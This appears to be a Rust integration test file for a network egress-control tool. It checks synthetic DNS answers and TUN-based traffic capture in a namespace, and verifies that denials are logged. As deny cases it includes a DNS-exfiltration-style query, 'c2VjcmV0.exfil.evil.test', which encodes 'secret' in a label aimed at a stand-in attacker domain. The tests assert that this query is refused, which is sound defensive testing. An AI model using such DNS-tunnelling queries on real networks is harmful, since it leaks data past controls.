#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_answers_allowed_names_synthetically_and_nothing_leaves() {
    use hickory_proto::op::{Message, ResponseCode};
    use hickory_proto::rr::{RData, RecordType};
    // A fake upstream resolver: nothing may ever arrive here.
    let upstream = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let counting = Arc::new(Counting {
        calls: AtomicUsize::new(0),
    });
    let h = harness(
        &policy(
            &[
                "allowed.test".into(),
                "ssh.test:22".into(),
                "**.cdn.test".into(),
            ],
            "",
        ),
        counting.clone(),
    )
    .await;
    let sock = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let dns_addr = sock.local_addr().unwrap();
    tokio::spawn(serve_dns(h.egress.clone(), sock));
    let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let ask = |name: &'static str, qt: RecordType| {
        let client = &client;
        async move {
            client
                .send_to(&dns_query(7, name, qt), dns_addr)
                .await
                .unwrap();
            let mut buf = vec![0u8; 2048];
            let (n, _) = tokio::time::timeout(Duration::from_secs(5), client.recv_from(&mut buf))
                .await
                .unwrap()
                .unwrap();
            Message::from_vec(&buf[..n]).unwrap()
        }
    };
    let mut answers: HashMap<&str, IpAddr> = HashMap::new();
    for name in [
        "allowed.test.",
        "ssh.test.",
        "a.b.cdn.test.",
        "ALLOWED.TEST.",
    ] {
        let m = ask(name, RecordType::A).await;
        assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{name}");
        let RData::A(a) = &m.answers[0].data else {
            panic!("{name}: {m:?}")
        };
        assert!(a.0.octets()[..2] == [198, 18] || a.0.octets()[..2] == [198, 19]);
        answers.insert(name, IpAddr::V4(a.0));
    }
    assert_eq!(answers["allowed.test."], answers["ALLOWED.TEST."]);
    assert_ne!(answers["allowed.test."], answers["ssh.test."]);
    let m = ask("allowed.test.", RecordType::AAAA).await;
    let RData::AAAA(a6) = &m.answers[0].data else {
        panic!("{m:?}")
    };
    assert!(a6.0.to_string().starts_with("fd7a:7761:7264:"));
    let m = ask("allowed.test.", RecordType::TXT).await;
    assert_eq!(m.metadata.response_code, ResponseCode::NoError);
    assert!(m.answers.is_empty());
    for name in [
        "evil.test.",
        "c2VjcmV0.exfil.evil.test.",
        "blocked.test.",
        "cdn.test.",
    ] {
        let m = ask(name, RecordType::A).await;
        assert_eq!(m.metadata.response_code, ResponseCode::NXDomain, "{name}");
        assert!(m.answers.is_empty());
    }
    // Nothing was resolved and nothing reached the fake upstream resolver.
    assert_eq!(counting.calls.load(Ordering::SeqCst), 0);
    let mut buf = [0u8; 512];
    assert!(
        tokio::time::timeout(Duration::from_millis(200), upstream.recv_from(&mut buf))
            .await
            .is_err()
    );
    let dns = h.find(|e| e["action"] == "dns");
    assert_eq!(
        dns.iter().filter(|e| e["decision"] == "deny").count(),
        4,
        "{dns:#?}"
    );
    assert!(
        dns.iter()
            .any(|e| e["target"] == "c2VjcmV0.exfil.evil.test".to_lowercase())
    );
    // Garbage never crashes the server.
    client.send_to(b"", dns_addr).await.unwrap();
    client.send_to(b"\x00\x01garbage", dns_addr).await.unwrap();
    let mut buf = vec![0u8; 512];
    let (n, _) = client.recv_from(&mut buf).await.unwrap();
    let m = Message::from_vec(&buf[..n]).unwrap();
    assert_eq!(
        (m.metadata.id, m.metadata.response_code),
        (1, ResponseCode::FormErr)
    );
    let m = ask("allowed.test.", RecordType::A).await;
    assert_eq!(m.metadata.response_code, ResponseCode::NoError);
}

// ---------------------------------------------------------------- TUN

/// Receive one fd over SCM_RIGHTS.
fn recv_fd(stream: &std::os::unix::net::UnixStream) -> std::os::fd::OwnedFd {
    use rustix::net::{RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, recvmsg};
    use std::mem::MaybeUninit;
    let mut space = [MaybeUninit::<u8>::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut cmsg = RecvAncillaryBuffer::new(&mut space);
    let mut buf = [0u8; 16];
    let mut iov = [std::io::IoSliceMut::new(&mut buf)];
    recvmsg(stream, &mut iov, &mut cmsg, RecvFlags::empty()).unwrap();
    for msg in cmsg.drain() {
        if let RecvAncillaryMessage::ScmRights(mut fds) = msg
            && let Some(fd) = fds.next()
        {
            return fd;
        }
    }
    panic!("no fd received");
}

/// A real TUN device in a user+net+mount namespace: DNS, TCP by name, raw IPs, UDP
/// and ICMP from programs that know nothing of any proxy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tun_governs_programs_that_ignore_proxies() {
    let up = http_upstream("127.0.0.2:0").await;
    let p = up.port();
    // Plain HTTP captured by the TUN is read as HTTP: `[[network.http]]` rules apply.
    let pol = format!(
        "{}[[network.http]]\nhost = \"allowed.test\"\nmethods = [\"GET\"]\npaths = [\"/via-tun\"]\n",
        policy(
            &[format!("allowed.test:{p}"), format!("127.0.0.2/32:{p}")],
            "",
        )
    );
    let h = harness(&pol, Arc::new(resolver())).await;
    let sock_path = h._dir.path().join("tun.sock");
    let listener = tokio::net::UnixListener::bind(&sock_path).unwrap();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/tun_netns.py");
    let child = tokio::process::Command::new("unshare")
        .args(["-Urnm", "--propagation", "private", "python3", script])
        .arg(&sock_path)
        .arg(p.to_string())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut child = child;
    let stream = tokio::select! {
        accepted = listener.accept() => accepted.unwrap().0,
        _ = child.wait() => {
            let out = child.wait_with_output().await.unwrap();
            panic!("namespace setup failed: {}", String::from_utf8_lossy(&out.stderr));
        }
        _ = tokio::time::sleep(Duration::from_secs(60)) => panic!("namespace helper never connected"),
    };
    let stream = stream.into_std().unwrap();
    stream.set_nonblocking(false).unwrap();
    let fd = recv_fd(&stream);
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let tun = tokio::spawn(warden_egress::serve_tun_until(
        h.egress.clone(),
        fd,
        1500,
        async move {
            let _ = stop_rx.await;
        },
    ));
    let mut stream = stream;
    std::io::Write::write_all(&mut stream, b"go\n").unwrap();
    let out = tokio::time::timeout(Duration::from_secs(120), child.wait_with_output())
        .await
        .expect("namespace clients finished")
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "stdout: {stdout}\nstderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let results: HashMap<String, Value> = stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|v| (v["name"].as_str().unwrap().to_string(), v))
        .collect();
    let r = |n: &str| {
        results
            .get(n)
            .unwrap_or_else(|| panic!("{n} missing: {stdout}"))
            .clone()
    };

    let addrs = r("resolve_allowed")["addrs"].clone();
    assert!(
        addrs
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a.as_str().unwrap().starts_with("198.18.")),
        "{addrs}"
    );
    assert!(r("resolve_denied").get("error").is_some(), "{stdout}");
    let ok = r("allowed_by_name");
    assert_eq!(ok["code"], "200", "{ok}");
    assert!(
        ok["body"]
            .as_str()
            .unwrap()
            .contains("upstream saw GET /via-tun"),
        "{ok}"
    );
    let ruled = r("http_rule_denied");
    assert_eq!(ruled["code"], "403", "{ruled}");
    assert!(
        ruled["body"].as_str().unwrap().contains("[[network.http]]"),
        "{ruled}"
    );
    for n in ["denied_by_name", "raw_ip", "unmapped_pool_ip", "raw_ipv6"] {
        let v = r(n);
        assert_ne!(v["code"], "200", "{n}: {v}");
        assert!(
            !v["body"].as_str().unwrap().contains("upstream saw"),
            "{n}: {v}"
        );
    }

    // The audit log has each decision.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let evs = h.events();
    let tun_allow = evs
        .iter()
        .filter(|e| e["via"] == "tun" && e["action"] == "connect" && e["decision"] == "allow")
        .count();
    // allowed_by_name and http_rule_denied (a connection allowed, a request refused)
    assert_eq!(tun_allow, 2, "{evs:#?}");
    assert!(
        evs.iter().any(|e| e["via"] == "tun"
            && e["action"] == "http"
            && e["decision"] == "deny"
            && e["method"] == "GET"),
        "{evs:#?}"
    );
    for target in ["192.0.2.99", "198.18.200.200", "[2001:db8::99]"] {
        assert!(
            evs.iter().any(|e| e["via"] == "tun"
                && e["decision"] == "deny"
                && e["target"] == format!("{target}:{p}")),
            "{target}: {evs:#?}"
        );
    }
    assert!(evs.iter().any(|e| e["action"] == "dns"
        && e["decision"] == "deny"
        && e["target"] == "c2vjcmv0.exfil.evil.test"));
    assert!(
        evs.iter()
            .any(|e| e["action"] == "udp" && e["target"] == "192.0.2.99:9999"),
        "{evs:#?}"
    );
    if results.contains_key("icmp_sent") {
        assert!(evs.iter().any(|e| e["action"] == "icmp"), "{evs:#?}");
    }
    // Shut the stack down while the runtime runs (see serve_tun_until). The device
    // may already have failed when the namespace went away; either way it returns.
    let _ = stop_tx.send(());
    let _ = tokio::time::timeout(Duration::from_secs(30), tun)
        .await
        .expect("TUN front end stops");
}
